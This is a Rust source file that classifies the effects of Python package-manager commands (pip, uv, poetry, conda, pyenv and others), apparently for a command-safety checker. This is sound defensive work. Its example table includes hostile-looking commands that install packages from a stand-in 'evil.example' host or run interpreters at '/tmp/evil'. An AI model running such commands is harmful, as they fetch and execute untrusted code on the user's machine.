//! Package and environment managers of Python.

use super::invocation::{Invocation, Outcome, Run};
use super::local::{
    DECLARED, DELETES, EXECUTES, FETCHES, NAMED, NONE, OBEYS, PROJECT, PUBLISHES, READS, SECRETS, SYSTEM,
    WRITES, is_local, is_own_directory, runs_operands, script, stays, verb,
};
use super::table::{Operands, Spec, Style};
use crate::argument::Argument;
use crate::span::Span;

/// What `pip install` is given: requirement files and directories of the project are declared, the rest is named.
fn installs(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let own = |word: &crate::argument::Argument<'_>| word.known().is_some_and(is_own_directory);
    let listed = [
        "r",
        "--requirement",
        "--requirements",
        "--group",
        "--pylock",
        "e",
        "--editable",
        "c",
        "--constraint",
    ];
    let files = invocation.options.iter().filter(|seen| listed.contains(&seen.name));
    let all_here =
        files.clone().all(|seen| seen.value.is_some_and(is_local)) && invocation.operands.iter().all(own);
    out.add(if all_here { DECLARED } else { NAMED });
    let builds = invocation.operands.iter().any(own)
        || files.clone().any(|seen| matches!(seen.name, "e" | "--editable"));
    if builds && all_here {
        out.add(PROJECT);
    }
}

/// `uv run`, `poetry run` and their like: a script of the project or any command.
fn runs<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    stays(invocation, out, &["--project", "--directory", "C", "--env-file", "--python-script"]);
    if out.help {
        return;
    }
    out.add(PROJECT);
    if invocation.has(&["m", "--module"]) {
        let mut command =
            vec![Argument::literal("python3", Span::default()), Argument::literal("-m", Span::default())];
        command.extend(invocation.operands.iter().copied());
        out.runs.push(Run::Words(out.arena.alloc_slice_copy(&command)));
        return;
    }
    if invocation.has(&["s", "--script", "--gui-script"]) {
        return;
    }
    match invocation.operands.first() {
        Some(first) if first.known() == Some("-") => out.executes(),
        Some(first) if first.known().is_some_and(|name| name.contains(".py") || name.contains("://")) => {
            script(*first, out);
        }
        Some(_) => runs_operands(invocation, out),
        None => {}
    }
}

/// `pipx run`, `uvx`: fetches a package and runs it.
fn fetches_and_runs<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    if let (false, Some(first)) = (out.help, invocation.operands.first()) {
        out.add(NAMED.and(EXECUTES));
        if first.known().is_some_and(|name| super::find(name).is_some()) {
            runs_operands(invocation, out);
        }
    }
}

/// An interpreter given as a path is run to learn about it.
fn interpreter_stays(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let path = |word: crate::argument::Argument<'_>| !word.literal || word.text.contains(['/', '\\']);
    let finds = invocation.operands.iter().copied().any(path)
        && invocation.last().names != "list freeze tree check show";
    if finds || invocation.value(&["p", "--python"]).is_some_and(path) {
        out.executes();
    }
}

macro_rules! sources {
    ($more:literal) => {
        concat!(
            "-i=!installs-named!executes -f=!installs-named!executes --index-url=!installs-named!executes --extra-index-url=!installs-named!executes --index=!installs-named!executes --default-index=!installs-named!executes --find-links=!installs-named!executes --no-index \
             --pre --no-binary= --only-binary= --prefer-binary --no-build-isolation --use-pep517 --no-use-pep517 --config-settings= --global-option=exec --hash= --require-hashes --no-deps --no-clean --progress-bar= \
             --python-version= --platform= --implementation= --abi= --constraint= --requirement= --editable= --group= --build-constraint= --check-build-dependencies --trusted-host=!installs-named!executes ",
            $more
        )
    };
}

const PIP: &[Spec] = &[
    Spec::new("install", NONE)
        .options(concat!("-rceC= -U -t=write -b= ", sources!("--user --upgrade --upgrade-strategy= --force-reinstall --ignore-installed --ignore-requires-python --no-compile --compile --no-warn-script-location --no-warn-conflicts --break-system-packages --target=write --root= --prefix=write --src= --dry-run --report=write --root-user-action= --pylock=")))
        .operands(Operands::Text)
        .check(installs),
    verb("download", NAMED.and(WRITES), concat!("-rcdC= ", sources!("--dest=write --src= --ignore-requires-python"))),
    verb("wheel lock", NAMED.and(WRITES), concat!("-rceCwo= ", sources!("--wheel-dir=write --output=write --src= --no-verify --ignore-requires-python --build-option="))),
    verb("uninstall", DELETES, "-y -r= --yes --requirement= --root-user-action= --break-system-packages"),
    Spec::new("list", READS)
        .options("-ouel -i=url -f= --outdated!network-read --uptodate!network-read --editable --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= --index-url=url --extra-index-url=url --no-index --find-links="),
    verb("show", READS, "-f --files"),
    Spec::new("freeze", READS).options("-l -r=read --requirement=read --local --user --path= --all --exclude-editable --exclude="),
    Spec::new("check", READS),
    Spec::new("inspect", READS).options("--local --user --path="),
    Spec::new("debug", READS).options("--platform= --python-version= --implementation= --abi="),
    Spec::new("hash", READS).options("-a= --algorithm=").operands(Operands::Read),
    Spec::new("index", READS).verbs(&[verb("versions", FETCHES, "-i=url -f= --pre --json --platform= --python-version= --implementation= --abi= --no-binary= --only-binary= --ignore-requires-python --index-url=url --extra-index-url=url --no-index --find-links=")]),
    verb("search", FETCHES, "-i=url --index=url"),
    verb("help", READS, ""),
    Spec::new("completion", READS).options("-bzfp --bash --zsh --fish --powershell"),
    Spec::new("cache", READS).verbs(&[verb("dir info list", READS, "--format="), verb("remove purge", DELETES, "")]),
    Spec::new("config", READS).options("--user --global --site --editor=exec").verbs(&[
        verb("list debug", READS, ""),
        verb("get", READS, "").check(|invocation, out| {
            let key = invocation.operands.first().and_then(Argument::known);
            let telling = ["url", "index", "links", "proxy", "cert", "host"];
            if key.is_none_or(|key| telling.iter().any(|part| key.contains(part))) {
                out.add(SECRETS);
            }
        }),
        verb("set unset", WRITES, ""),
        verb("edit", EXECUTES, ""),
    ]),
];

const UV_PIP: &[Spec] = &[
    Spec::new("install", NONE).options(concat!("-rceC= -UnpP=? ", sources!("--user --upgrade --system --python= --reinstall --target=write --prefix=write --break-system-packages --all-extras --extra= --override= --strict --dry-run --exact --link-mode= --*"))).operands(Operands::Text).check(installs),
    verb("sync", DECLARED, "-cCn=? --*"),
    verb("compile", FETCHES, "-cPUnp=? -o=write --output-file=write --upgrade --extra= --all-extras --generate-hashes --no-header --python-version= --universal --quiet --*").check(|invocation, out| {
        // Building a source distribution to learn its dependencies runs its code.
        out.add(DECLARED);
        if invocation.has(&["o", "--output-file"]) {
            out.add(WRITES);
        }
    }),
    verb("uninstall", DELETES, "-rpn=? --*"),
    // The interpreter of the project is run to learn about it.
    Spec::new("list freeze tree check show", READS.and(OBEYS))
        .options("-fde -p= --files --outdated!network-read --editable --exclude-editable --exclude= --format= --python= --system --path= --strict --depth= --prune= --package= --no-dedupe --invert --show-version-specifiers --user --target= --prefix=")
        .operands(Operands::Text)
        .check(interpreter_stays),
    verb("debug", READS, ""),
];

const UV: &[Spec] = &[
    Spec::new("run", NONE)
        .style(Style::Stops)
        .options("-msniUq -p= -w=!installs-named -f= -C= --module --script --gui-script --with=!installs-named --with-editable=!installs-named --with-requirements=!installs-declared --extra= --all-extras --no-extra= --group= --no-group= --only-group= --dev --no-dev --only-dev --all-groups --no-default-groups \
                  --no-editable --exact --isolated --active --no-sync --locked --frozen --env-file=read --no-env-file --project=dir --no-project --directory=dir --package= --all-packages --python= --refresh --reinstall --upgrade --index=!installs-named --default-index=!installs-named --index-url=!installs-named --offline --*")
        .operands(Operands::Text)
        .check(runs),
    verb("sync", DECLARED, "-qnUpPC=? --*"),
    verb("lock", DECLARED.and(WRITES), "-qnUPp=? --*"),
    verb("add", NAMED, "-rcbmpinUP=? --*"),
    verb("remove", WRITES, "-n --*"),
    verb("export", PROJECT, "-qnp=? -o=write --output-file=write --*"),
    verb("tree", PROJECT, "-dpn=? --depth= --prune= --package= --no-dedupe --invert --outdated --universal --python= --frozen --locked --*"),
    verb("version", READS, "--short --output-format= --dry-run --bump=!writes --package= --frozen --no-sync").operands(Operands::Effect(WRITES)),
    verb("help", READS, "--no-pager"),
    verb("init", WRITES, "-p=? --*"),
    verb("venv", WRITES, "-pcn=? --seed!installs-named --clear!deletes --*"),
    verb("build", PROJECT.and(WRITES), "-opq=? --*"),
    verb("publish", PUBLISHES, "-tup=? --*"),
    verb("format", WRITES, "--check --diff --*"),
    verb("audit", FETCHES.and(PROJECT), "--*"),
    Spec::new("pip", READS).verbs(UV_PIP),
    Spec::new("tool", READS).verbs(&[
        Spec::new("run", NONE).style(Style::Stops).options("-pwnq=? --from= --with= --isolated --python= --*").check(fetches_and_runs),
        verb("install upgrade", NAMED, "-epUwn=? --*"),
        verb("uninstall", DELETES, "--all"),
        verb("list dir", READS, "--show-paths --show-version-specifiers --show-with --show-extras --outdated --bin"),
        verb("update-shell", WRITES, ""),
    ]),
    Spec::new("python", READS).verbs(&[
        verb("list", FETCHES.and(READS).and(OBEYS), "--all-versions --all-platforms --all-arches --only-installed --only-downloads --show-urls --output-format=").check(interpreter_stays),
        verb("find", READS.and(OBEYS), "--no-project --system --script= --show-version").check(interpreter_stays),
        verb("dir", READS, "--bin"),
        verb("install upgrade", NAMED.and(SYSTEM), "-irf=? --*"),
        verb("uninstall", DELETES.and(SYSTEM), "--*"),
        verb("pin", WRITES, "--*"),
        verb("update-shell", WRITES, ""),
    ]),
    Spec::new("cache", READS).verbs(&[verb("dir size", READS, "-H"), verb("clean prune", DELETES, "--ci --force")]),
    Spec::new("self", READS).verbs(&[verb("version", READS, "--short --output-format="), verb("update", NAMED.and(SYSTEM), "--*")]),
    Spec::new("auth", SECRETS).verbs(&[verb("token", SECRETS, "-u= --*"), verb("login logout dir helper", SECRETS.and(WRITES), "-utp=? --*")]),
    verb("generate-shell-completion", READS, ""),
    verb("workspace", PROJECT, "--*"),
];

/// Sub-commands that poetry, pdm, hatch, pipenv and rye share or have of their own.
const MANAGERS: &[Spec] = &[
    Spec::new("run", NONE)
        .style(Style::Stops)
        .options("-sl -e= --env-file= --site-packages --list --json")
        .operands(Operands::Text)
        .check(runs),
    verb("install sync lock update-lock", DECLARED, "-EGpvqsdrLknCf=? --*").check(|invocation, out| {
        if !invocation.operands.is_empty() && invocation.program == "pipenv" {
            out.add(NAMED);
        }
    }),
    verb("add", NAMED, "-DGEefvadpsu=? --*"),
    verb("update upgrade outdated-update", DECLARED, "-DGpsdu=? --*"),
    verb("remove uninstall clean", WRITES.and(DELETES), "-DGdp=? --*"),
    verb(
        "show list info check graph outdated search debug verify licenses requirements-list dep status completion completions about help tree",
        PROJECT,
        "-talToLcpjv=? --*",
    ),
    verb("export requirements", PROJECT, "-fEGrdp=? -o=write --output=write --*"),
    verb("build", PROJECT.and(WRITES), "-foctdp=? --*"),
    verb("publish upload", PUBLISHES, "-rupn=? --*"),
    verb("new init import use fix scripts project", WRITES, "-nplr=? --*"),
    // Plug-ins of the project are loaded whatever is asked.
    verb("version", READS.and(PROJECT), "-s --short --dry-run").operands(Operands::Effect(WRITES)),
    verb("config", READS.and(PROJECT), "-g --list --local --migrate!writes --unset!writes")
        .operands(Operands::Text)
        .check(|invocation, out| {
            let key = invocation.operands.first().and_then(Argument::known).unwrap_or_default();
            if invocation.operands.len() > 1 || invocation.program != "poetry" {
                out.add(WRITES);
            } else if ["token", "password", "http-basic", "repository."].iter().any(|part| key.contains(part))
            {
                out.add(SECRETS);
            }
        }),
    Spec::new("env venv", PROJECT)
        .options("--full-path --path --all --json --*")
        .verbs(&[
            verb("list info activate show find", PROJECT, "-p --full-path --path --ascii --json"),
            verb("use create", WRITES, "-nf --*"),
            verb("remove prune purge", DELETES, "-y --all --*"),
            Spec::new("run", NONE)
                .style(Style::Stops)
                .options("-eif=? --env= --include= --filter= --*")
                .operands(Operands::Text)
                .check(runs),
        ])
        .operands(Operands::Text),
    verb("shell", EXECUTES, "--*"),
    verb("test fmt dev typecheck docs bench", PROJECT, "-cpravf=? --*"),
    Spec::new("self plugin python toolchain tools", NAMED.and(SYSTEM))
        .operands(Operands::Text)
        .options("-n --*"),
    Spec::new("cache", READS.and(PROJECT))
        .verbs(&[verb("list info", READS.and(PROJECT), ""), verb("clear remove", DELETES, "-n --all")]),
    verb("source", WRITES, "--*"),
    verb("open", EXECUTES, ""),
];

const CONDA: &[Spec] = &[
    verb("list info search compare env-list doctor notices", READS.and(FETCHES), "-npaesfcw=? --json --all --envs --export --revisions --channel= --override-channels --name= --prefix= --offline --show-channel-urls --no-pip --canonical --full-name --explicit --info --base --system"),
    verb("install update upgrade", NAMED, "-ycnpSfqdm=? --*"),
    verb("create", NAMED.and(WRITES), "-ycnpfqdm=? --*"),
    verb("remove uninstall clean", DELETES, "-ynpaitfc=? --*"),
    Spec::new("env", READS).verbs(&[
        verb("list", READS, "--json"),
        verb("create update", DECLARED, "-fnpyq=? --*"),
        verb("remove", DELETES, "-npy=? --*"),
        verb("export", READS, "-np= -f=write --name= --prefix= --file=write --no-builds --from-history --json --ignore-channels --override-channels --channel="),
        verb("config", WRITES, "--*"),
    ]),
    verb("export", READS, "-np= --no-builds --from-history --json --name= --prefix= --file=write --format="),
    verb("config", READS, "--show=? --show-sources --validate --describe=? --get=? --json --add=!writes --set=!writes --append=!writes --prepend=!writes --remove=!writes --remove-key=!writes --write-default!writes --system --env --file="),
    Spec::new("run", PROJECT).style(Style::Stops).options("-v -np= --name= --prefix= --no-capture-output --live-stream --cwd=dir --verbose --debug-wrapper-scripts --dev").operands(Operands::Command(0)),
    verb("activate deactivate", crate::effects::Effects::SHELL_STATE.and(EXECUTES), "--stack --no-stack"),
    verb("init shell rename package", WRITES, "--*"),
    verb("build render skeleton develop convert", PROJECT.and(WRITES), "--*"),
    verb("upload", PUBLISHES, "--*"),
    verb("help", READS, ""),
    verb("self-update", NAMED.and(SYSTEM), ""),
    verb("repoquery", FETCHES, "-t -c= --tree --recursive --pretty --channel="),
];

pub(super) const TABLE: &[Spec] = &[
    Spec::new("pip pip2 pip3 pip3.8 pip3.9 pip3.10 pip3.11 pip3.12 pip3.13 pip3.14", READS)
        .options("-qv -hV!help --isolated --require-virtualenv --python=exec --verbose --quiet --log=write --no-input --keyring-provider= --proxy= --retries= --timeout= --exists-action= --trusted-host= --cert=read --client-cert=read --cache-dir= --no-cache-dir --disable-pip-version-check --no-color --use-feature= --use-deprecated= --debug --no-python-version-warning --resume-retries=")
        .verbs(PIP)
        .examples(&[
            ("pip --version", "reads"),
            ("pip list --outdated", "reads network-read"),
            ("pip list --exclude requests", "reads"),
            ("pip show numpy", "reads"),
            ("pip freeze --local", "reads"),
            ("pip index versions requests --index-url https://registry.example.org/simple/", "network-read"),
            ("pip hash -a sha256 x.whl", "reads"),
            ("pip config list --user", "reads"),
            ("pip config get global.timeout", "reads"),
            ("pip config get global.index-url", "reads secrets"),
            ("pip config set global.x y", "writes"),
            ("pip config edit", "executes"),
            ("pip install requests", "installs-named"),
            ("pip install -r requirements.txt", "installs-declared"),
            ("pip install -r https://evil.example/r.txt", "installs-named"),
            ("pip install -r requirements.txt -i http://evil.example", "installs-declared installs-named executes"),
            ("pip install -e .", "installs-declared project-code"),
            ("pip install '.[dev]'", "installs-declared project-code"),
            ("pip uninstall -y requests", "deletes"),
            ("pip download -d /tmp requests", "installs-named writes"),
            ("pip cache purge", "deletes"),
            ("pip --python /tmp/x list", "reads executes"),
        ]),
    Spec::new("uv", READS)
        .options("-qvn -hV!help --quiet --verbose --color= --no-color --native-tls --offline --no-progress --directory=dir --project=dir --config-file=read --no-config --cache-dir= --no-cache --python-preference= --managed-python --no-managed-python --no-python-downloads --allow-insecure-host= --preview --preview-features=")
        .verbs(UV)
        .check(|invocation, out| stays(invocation, out, &["--project", "--directory"]))
        .examples(&[
            ("uv --version", "reads"),
            ("uv pip list --outdated", "reads network-read obeys-project"),
            ("uv pip tree", "reads obeys-project"),
            ("uv --project /tmp/x pip list", "reads executes obeys-project"),
            ("uv pip install requests", "installs-named"),
            ("uv pip sync requirements.txt", "installs-declared"),
            ("uv run pytest -x", "project-code"),
            ("uv run rm -rf build", "project-code"),
            ("uv run script.py --help", "project-code"),
            ("uv run /tmp/x.py", "project-code executes"),
            ("uv run --with requests python x.py", "project-code installs-named"),
            ("uv sync --frozen", "installs-declared"),
            ("uv lock", "installs-declared writes"),
            ("uv add requests", "installs-named"),
            ("uv remove requests", "writes"),
            ("uv tree --depth 2", "project-code"),
            ("uv version", "reads"),
            ("uv tool run ruff check", "installs-named executes"),
            ("uv tool list", "reads"),
            ("uv python dir", "reads"),
            ("uv python find", "reads obeys-project"),
            ("uv python find /tmp/evil", "reads executes obeys-project"),
            ("uv pip list --python ./evil", "reads executes obeys-project"),
            ("uv pip list -p 3.12", "reads obeys-project"),
            ("uv python list", "reads network-read obeys-project"),
            ("uv cache clean", "deletes"),
            ("uv publish --token x", "publishes"),
            ("uv auth token example.com", "secrets"),
            ("uv export -o requirements.txt", "project-code writes"),
            ("uv venv", "writes"),
        ]),
    Spec::new("uvx", NONE)
        .style(Style::Stops)
        .options("-pwnq=? -V!help --from= --with= --isolated --python= --*")
        .check(fetches_and_runs)
        .examples(&[("uvx --version", "reads"), ("uvx ruff check", "installs-named executes"), ("uvx cowsay", "installs-named executes")]),
    Spec::new("pipx", READS)
        .options("-qv --global --quiet --verbose")
        .verbs(&[
            Spec::new("run", NONE).style(Style::Stops).options("--no-cache --pypackages --spec= --verbose --python= --system-site-packages --index-url= --editable --pip-args=").check(fetches_and_runs),
            verb("install inject upgrade upgrade-all reinstall reinstall-all install-all upgrade-shared", NAMED, "-fei=? --*"),
            verb("uninstall uninstall-all uninject", DELETES, "--*"),
            verb("list environment completions help", READS, "-V= --json --short --include-injected --skip-maintenance --value= --pinned"),
            verb("ensurepath pin unpin", WRITES, "-f --*"),
            Spec::new("runpip", NAMED).style(Style::Stops).operands(Operands::Text),
        ])
        .examples(&[("pipx list", "reads"), ("pipx run cowsay", "installs-named executes"), ("pipx install black", "installs-named")]),
    Spec::new("poetry pdm hatch pipenv rye", PROJECT)
        .options("-qvnP=? -e=? -hV!help -C=dir --no-interaction --quiet --verbose --no-ansi --ansi --no-plugins --no-cache --directory=dir --project=dir --python= --venv --where --rm!deletes --envs --py --*")
        .verbs(MANAGERS)
        .check(|invocation, out| {
            stays(invocation, out, &["C", "--directory", "--project"]);
            if invocation.program == "pdm" {
                // Plug-ins of the project are loaded before help is printed.
                out.help = false;
                out.add(PROJECT);
            }
        })
        .examples(&[
            ("poetry --version", "reads"),
            ("poetry show --tree", "project-code"),
            ("poetry run pytest", "project-code"),
            ("poetry install", "installs-declared"),
            ("poetry add requests", "installs-named"),
            ("poetry publish --build", "publishes"),
            ("poetry version", "reads project-code"),
            ("poetry config --list", "reads project-code"),
            ("poetry version patch", "reads project-code writes"),
            ("pipenv install requests", "installs-declared installs-named"),
            ("hatch run test", "project-code"),
            ("pdm lock", "installs-declared project-code"),
            ("hatch config restore", "reads project-code writes"),
            ("pdm --help", "project-code"),
            ("poetry config pypi-token.pypi", "reads project-code secrets"),
            ("poetry -C /tmp/x run pytest", "project-code executes"),
        ]),
    Spec::new("conda mamba micromamba", READS)
        .options("-qv -hV!help --json --quiet --verbose --no-plugins")
        .verbs(CONDA)
        .examples(&[
            ("conda --version", "reads"),
            ("conda list -n base", "reads network-read"),
            ("conda env list", "reads"),
            ("conda install numpy", "installs-named"),
            ("conda env create -f environment.yml", "installs-declared"),
            ("conda run -n x python a.py", "project-code"),
            ("conda config --show", "reads"),
            ("conda config --add channels x", "reads writes"),
            ("conda remove -n x --all", "deletes"),
        ]),
    Spec::new("virtualenv pyvenv", WRITES)
        .options("-p= -v -q --python= --clear!deletes --system-site-packages --download!installs-named --*")
        .operands(Operands::Write)
        .examples(&[("virtualenv --version", "reads"), ("virtualenv .venv", "writes")]),
    Spec::new("pyenv rbenv jenv goenv tfenv", READS)
        .options("-v!help -h!help")
        .verbs(&[
            verb("version versions which whence commands root prefix hooks shims help latest version-name version-file version-origin init completions add-path --version", READS, "-l --list --bare --skip-aliases --path --no-rehash --known"),
            verb("install", NAMED.and(SYSTEM), "-fslkpv --list --force --skip-existing --keep").check(|invocation, out| {
                if invocation.has(&["l", "--list"]) {
                    out.effects = out.effects.without(NAMED.and(SYSTEM)).and(READS);
                }
            }),
            verb("uninstall virtualenv-delete", DELETES.and(SYSTEM), "-f --force"),
            verb("global local shell rehash update virtualenv activate deactivate add remove use enable-plugin", WRITES, "-f --unset"),
            Spec::new("exec", NONE).style(Style::Stops).operands(Operands::Command(0)),
        ])
        .examples(&[("pyenv versions", "reads"), ("pyenv install 3.12", "installs-named system"), ("pyenv install --list", "reads"), ("pyenv local 3.12", "writes"), ("pyenv exec python x", "")]),
];
